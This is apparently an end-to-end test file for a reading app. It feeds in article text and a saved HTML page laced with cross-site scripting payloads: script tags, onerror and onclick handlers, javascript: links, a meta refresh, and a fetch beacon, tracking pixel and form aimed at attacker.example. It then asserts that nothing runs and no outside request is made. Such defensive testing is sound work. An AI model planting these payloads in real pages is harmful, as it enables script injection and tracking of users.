import { mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startTestHost } from '../host/testHost'
import { test, expect } from './fixtures'

const HOSTILE = [
  '<script>window.__pwned = 1</script> A <b>bold</b> title',
  '',
  'First paragraph with <img src=x onerror="window.__pwned = 2"> an image tag and enough words to count as prose.',
  '',
  '<iframe src="https://example.com/"></iframe> <style>body { display: none }</style> javascript:alert(1) [link](javascript:alert(2)) and more words here.',
  '',
  'Hebrew: שָׁלוֹם עוֹלָם, Arabic: مرحبا بالعالم, emoji 👩‍👩‍👧 🇺🇦 and combining e\u0301 in one long paragraph of prose.',
].join('\n')

test('article text with markup, scripts and RTL is shown as text and runs nothing', async ({
  page,
}) => {
  const seeds = await mkdtemp(join(tmpdir(), 'lectern-hostile-'))
  await writeFile(join(seeds, '000_hostile.txt'), HOSTILE)
  const host = await startTestHost({ seedsDir: seeds })
  try {
    let dialogs = 0
    page.on('dialog', (d) => {
      dialogs++
      void d.dismiss()
    })
    await page.goto(host.url)
    const reader = page.getByRole('main', { name: 'Article' })
    await expect(reader.getByRole('heading', { level: 1 })).toHaveText(
      '<script>window.__pwned = 1</script> A <b>bold</b> title',
    )
    await expect(reader.locator('p[data-paragraph="0"]')).toContainText(
      '<img src=x onerror="window.__pwned = 2">',
    )
    await expect(reader.locator('p[data-paragraph="1"]')).toContainText(
      '<iframe src="https://example.com/"></iframe>',
    )
    await expect(reader.locator('p[data-paragraph="2"]')).toContainText('שָׁלוֹם עוֹלָם')
    expect(
      await reader
        .locator('article script, article img, article iframe, article style, article b')
        .count(),
    ).toBe(0)
    expect(
      await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
    ).toBeUndefined()
    expect(dialogs).toBe(0)

    // Searching it is safe too: the snippet is text with marked words.
    await page.getByRole('combobox', { name: 'Search all articles' }).fill('onerror')
    const option = page.getByRole('listbox', { name: 'Search results' }).getByRole('option').first()
    await expect(option).toContainText('<img src=x onerror=')
    expect(await option.locator('img').count()).toBe(0)
    await page.getByRole('combobox', { name: 'Search all articles' }).fill('שלום')
    await expect(
      page
        .getByRole('listbox', { name: 'Search results' })
        .getByRole('option')
        .first()
        .locator('mark'),
    ).toHaveText('שָׁלוֹם')
  } finally {
    await host.close()
  }
})

/** A saved page that would load and run things if any of it reached the window as HTML. */
const HOSTILE_PAGE = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=https://attacker.example/">
<title>A page with traps</title>
<link rel="stylesheet" href="https://attacker.example/site.css">
<style>body { background: url(https://attacker.example/bg.png) }</style>
<script>window.__pwned = 'script'; fetch('https://attacker.example/beacon')</script>
</head><body onload="window.__pwned = 'onload'">
<article><h1>A page with traps</h1>
<p>This article looks ordinary and says enough to be read as one, with several sentences of plain prose.</p>
<img src="https://attacker.example/tracker.gif" alt="A tracking pixel pretending to be a photo">
<iframe src="https://attacker.example/frame"></iframe>
<p onclick="window.__pwned = 'click'" style="background-image: url(https://attacker.example/p.png)">A paragraph with a handler and a styled background, <a href="javascript:window.__pwned='link'">a javascript link</a>, and more words.</p>
<form action="https://attacker.example/post"><input name="q"><button>Send</button></form>
<object data="https://attacker.example/x.swf"></object>
<svg><script>window.__pwned = 'svg'</script></svg>
<p>&lt;script&gt;window.__pwned = 'text'&lt;/script&gt; is shown as words.</p>
</article></body></html>`

test('an imported page with scripts, refresh, iframes and remote pictures loads and runs nothing', async ({
  app,
  host,
  offHost,
}) => {
  const dir = await mkdtemp(join(tmpdir(), 'lectern-hostile-page-'))
  await writeFile(join(dir, 'traps.html'), HOSTILE_PAGE)
  host.desktop.answers.import = [join(dir, 'traps.html')]
  await app
    .getByRole('navigation', { name: 'Articles' })
    .getByRole('button', { name: 'Import' })
    .click()
  await app.getByRole('menuitem', { name: /Import files/ }).click()
  const done = app.getByRole('dialog', { name: 'Import finished' })
  await expect(done).toBeVisible({ timeout: 60_000 })
  await done.getByRole('button', { name: 'A page with traps' }).click()

  const reader = app.getByRole('main', { name: 'Article' })
  await expect(reader.getByRole('heading', { level: 1 })).toHaveText('A page with traps')
  await expect(reader).toContainText("<script>window.__pwned = 'text'</script> is shown as words.")
  // The remote picture is named, never fetched.
  await expect(reader.locator('.figure-alt')).toContainText(
    'A tracking pixel pretending to be a photo',
  )
  await reader.getByText('A paragraph with a handler').click()
  const article = reader.locator('article')
  for (const tag of ['script', 'iframe', 'form', 'object', 'style', 'a', 'svg script'])
    await expect(article.locator(tag), tag).toHaveCount(0)
  await expect(article.locator('[onclick], [onload], [style*="url("]')).toHaveCount(0)
  expect(await app.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined()
  expect(app.url()).toBe(`${host.url}/`)
  // The fixture fails the test on any request outside the test host; none was even tried.
  expect(offHost).toEqual([])
})
